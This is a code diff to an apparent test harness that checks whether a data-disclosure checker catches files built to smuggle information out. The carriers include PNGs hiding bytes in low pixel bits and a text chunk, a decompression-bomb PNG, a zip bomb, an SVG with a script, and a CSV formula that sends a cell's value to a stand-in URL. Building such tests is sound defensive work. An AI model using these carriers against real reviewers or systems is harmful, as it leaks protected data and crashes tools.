@@ -7,19 +7,24 @@ import base64
 import gzip
 import io
 import pickle
+import random
 import zipfile
 import zlib
-from dataclasses import dataclass
+from collections.abc import Mapping
+from dataclasses import dataclass, field
 from functools import cache
 from typing import TYPE_CHECKING
 
 from bench.zone_attacks.harness import Attack, Trial, answering_nothing
-from dalgubeol.kinds import checks
+from dalgubeol.kinds import checks, pictures
 
 if TYPE_CHECKING:
     import pyarrow as pa
 
 SMALLEST_CELL = 10
+_SAID = b"900101-1234567"
+_TABLE = {"t.csv": b"area,claims\narea 1,120\narea 2,240\n"}
+_PICTURE = ("images.image_findings",)
 _TYPE = ("tables.file_type",)
 _RECORDS = ("near.near_records", "raw.raw_rows")
 _ANY_RECORD = (*_RECORDS, "raw.identifier_columns", "extremes.single_values", "cells.cells_below", "cells.uniform_rows")  # fmt: skip
@@ -31,6 +36,8 @@ class Carrier:
     name: str
     content: bytes
     rules: tuple[str, ...]
+    beside: Mapping[str, bytes] = field(default_factory=dict)
+    """Other files, with which nothing is wrong."""
 
 
 @cache
@@ -58,19 +65,36 @@ def _zipped(content: bytes) -> bytes:
     return sink.getvalue()
 
 
-def _png(hidden: bytes) -> bytes:
-    """A picture of one grey, whose lowest bits say something."""
+def _png(hidden: bytes, side: int = 64, dark: int = 128, light: int = 129) -> bytes:
+    """A picture of one grey whose bits say something: where one is set it is lighter."""
+    bits = [byte >> shift & 1 for byte in hidden for shift in range(8)]
+    bits += [0] * (side * side - len(bits))
+    rows = b"".join(b"\0" + bytes(light if bit else dark for bit in bits[y * side : (y + 1) * side]) for y in range(side))  # fmt: skip
+    return _of_chunks(side, zlib.compress(rows))
 
+
+def _of_chunks(side: int, packed: bytes) -> bytes:
     def chunk(kind: bytes, body: bytes) -> bytes:
         return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")
 
-    bits = [byte >> shift & 1 for byte in hidden for shift in range(8)]
-    side = 64
-    rows = b"".join(
-        b"\0" + bytes(128 + (bits[y * side + x] if y * side + x < len(bits) else 0) for x in range(side)) for y in range(side)
-    )  # fmt: skip
     header = side.to_bytes(4, "big") * 2 + bytes((8, 0, 0, 0, 0))
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")  # fmt: skip
+    comment = chunk(b"tEXt", b"Comment\0" + _SAID)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + comment + chunk(b"IDAT", packed) + chunk(b"IEND", b"") + _SAID  # fmt: skip
+
+
+def _drawn_again(content: bytes) -> bytes:
+    return pictures.drawn_again({"t.png": content})["t.png"]
+
+
+def _in_low_bits(content: bytes) -> bytes:
+    """What the lowest bits of a picture say."""
+    from dalgubeol.methods.disclosure.images import pixels
+
+    bits = [int(each) & 1 for each in pixels(content)[..., 0].ravel()]
+    packed = (
+        sum(bit << place for place, bit in enumerate(bits[at : at + 8])) for at in range(0, len(bits), 8)
+    )
+    return bytes(packed)
 
 
 class _Opens:
@@ -98,7 +122,8 @@ def _carriers() -> tuple[Carrier, ...]:
         Carrier("the largest value of all", "t.csv", b"measure,value\nmax cost,1009871\nmean cost,501234\n", ("extremes.single_values",)),
         Carrier("a formula for whoever opens the table", "t.csv", b"area,claims\n\"=HYPERLINK(\"\"http://x/\"\"&A1)\",50\narea 2,60\n", ("tables.formulas",)),
         Carrier("more rows than anybody reads", "t.csv", ("n,claims\n" + "\n".join(f"group{n},{n + 50}" for n in range(20_000))).encode(), ("tables.too_many_rows", *_ANY_RECORD)),
-        Carrier("a picture whose lowest bits speak", "t.png", _png(table.encode()[:400]), _TYPE),
+        Carrier("a picture that is noise to the eye", "t.png", _png(gzip.compress(random.Random(1).randbytes(1 << 15)), 512, 0, 255), _PICTURE, _TABLE),
+        Carrier("a picture that unpacks without end", "t.png", _of_chunks(20_000, zlib.compress(bytes(1 << 24))), _PICTURE, _TABLE),
         Carrier("a picture that draws itself", "t.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", _TYPE),
         Carrier("an archive", "t.zip", _zipped((header + table).encode()), _TYPE),
         Carrier("a bomb for whoever unpacks it", "t.zip", _zipped(bytes(1 << 20)), (*_TYPE, *_RECORDS)),
@@ -112,7 +137,7 @@ def _carriers() -> tuple[Carrier, ...]:
 
 
 def _held(carrier: Carrier) -> bool:
-    found = checks.check_files({carrier.name: carrier.content}, source(), SMALLEST_CELL)
+    found = checks.check_files({carrier.name: carrier.content, **carrier.beside}, source(), SMALLEST_CELL)
     return any(finding["holds"] for finding in found)
 
 
@@ -128,4 +153,15 @@ def _attack(number: int, id_: str) -> Attack:
     )  # fmt: skip
 
 
-OUTPUTS = tuple(_attack(number, each.id) for number, each in enumerate(_carriers()))
+_SPEAKS = (
+    Attack(
+        "output: a picture whose lowest bits speak", "outputs", "drawing pictures again",
+        lambda trial: _in_low_bits(_png(_SAID)).startswith(_SAID),
+        lambda trial: _in_low_bits(_drawn_again(_png(_SAID))).startswith(_SAID),
+    ),
+    Attack(
+        "output: a picture with words beside its pixels", "outputs", "drawing pictures again",
+        lambda trial: _SAID in _png(b""), lambda trial: _SAID in _drawn_again(_png(b"")),
+    ),
+)  # fmt: skip
+OUTPUTS = (*(_attack(number, each.id) for number, each in enumerate(_carriers())), *_SPEAKS)
